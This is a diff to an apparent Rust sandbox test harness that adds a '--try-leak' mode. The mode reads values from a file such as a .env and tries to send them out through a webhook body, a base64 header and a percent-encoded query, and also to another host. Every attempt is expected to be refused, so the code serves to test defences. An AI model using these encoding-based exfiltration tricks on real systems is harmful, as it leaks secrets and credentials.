@@ -13,7 +13,11 @@
 //! - `--try-other-host`: send the charge to a host the manifest does not list;
 //! - `--try-spawn`: run a shell (a wasm component cannot start processes at all);
 //! - `--try-exfil`: send the `stripe` secret to the receipts webhook and to another host;
-//! - `--try-reveal`: read the `stripe` secret's value, and open a secret never granted.
+//! - `--try-reveal`: read the `stripe` secret's value, and open a secret never granted;
+//! - `--try-leak FILE`: post each `NAME=VALUE` value found in FILE (say, a stray `.env` the
+//!   operator granted by mistake) to the receipts webhook, as is in the body, base64-encoded in
+//!   a header and percent-encoded in the query, and in the query to another host. A value that
+//!   is one of warden's secrets is refused wherever it hides.
 
 use std::fmt::Display;
 use std::process::ExitCode;
@@ -52,6 +56,7 @@ struct Flags {
     try_spawn: bool,
     try_exfil: bool,
     try_reveal: bool,
+    try_leak: Option<String>,
 }
 
 fn flags() -> Result<Flags, String> {
@@ -62,6 +67,7 @@ fn flags() -> Result<Flags, String> {
         try_spawn: false,
         try_exfil: false,
         try_reveal: false,
+        try_leak: None,
     };
     let mut args = std::env::args().skip(1);
     while let Some(arg) = args.next() {
@@ -77,6 +83,7 @@ fn flags() -> Result<Flags, String> {
             "--try-spawn" => flags.try_spawn = true,
             "--try-exfil" => flags.try_exfil = true,
             "--try-reveal" => flags.try_reveal = true,
+            "--try-leak" => flags.try_leak = Some(args.next().ok_or("--try-leak needs a file")?),
             other => return Err(format!("unknown argument {other:?}")),
         }
     }
@@ -200,6 +207,92 @@ fn try_reveal(tries: &mut Tries) {
     );
 }
 
+/// Standard base64 with padding.
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for group in bytes.chunks(3) {
+        let n = group
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
+        for i in 0..4 {
+            if i <= group.len() {
+                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// Every byte outside the unreserved set as `%XX`.
+fn percent(text: &str) -> String {
+    text.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                char::from(b).to_string()
+            }
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+/// The error with its URL replaced by `shown`, for a URL that holds a value the output must
+/// not.
+fn with_url(e: Error, shown: &str) -> Error {
+    let url = shown.to_string();
+    match e {
+        Error::Denied { .. } => Error::Denied { url },
+        Error::Http { code, .. } => Error::Http { url, code },
+        other => other,
+    }
+}
+
+fn try_leak(tries: &mut Tries, config: &Config, file: &str) {
+    let text = match fs::read_to_string(file) {
+        Ok(text) => text,
+        Err(e) => return println!("refused: read {file}: {e}"),
+    };
+    for (n, value) in text
+        .lines()
+        .filter_map(|l| l.split_once('=').map(|(_, v)| v.trim()))
+        .filter(|v| !v.is_empty())
+        .enumerate()
+    {
+        // Which value is which goes by position: a value never reaches the output.
+        let body = serde_json::json!({ "note": value }).to_string();
+        let sent = Request::post(&config.receipts).json(&body).send();
+        tries.expect_refused(&format!("post value {n} from {file} in the body"), sent);
+        let sent = Request::post(&config.receipts)
+            .header("x-debug", &base64(value.as_bytes()))
+            .json("{}")
+            .send();
+        tries.expect_refused(&format!("post value {n} from {file} base64-encoded"), sent);
+        let url = format!("{}?note={}", config.receipts, percent(value));
+        let shown = format!("{}?note=…", config.receipts);
+        let sent = Request::post(&url)
+            .json("{}")
+            .send()
+            .map_err(|e| with_url(e, &shown));
+        tries.expect_refused(
+            &format!("post value {n} from {file} percent-encoded in the query"),
+            sent,
+        );
+        let url = format!("{ELSEWHERE}?note={}", percent(value));
+        let shown = format!("{ELSEWHERE}?note=…");
+        let sent = Request::post(&url)
+            .json("{}")
+            .send()
+            .map_err(|e| with_url(e, &shown));
+        tries.expect_refused(
+            &format!("post value {n} from {file} in the query to another host"),
+            sent,
+        );
+    }
+}
+
 fn main() -> ExitCode {
     let flags = match flags() {
         Ok(flags) => flags,
@@ -237,6 +330,9 @@ fn main() -> ExitCode {
     }
     if flags.try_reveal {
         try_reveal(&mut tries);
+    }
+    if let Some(file) = &flags.try_leak {
+        try_leak(&mut tries, &config, file);
     }
     if tries.allowed > 0 {
         log::error(format_args!(
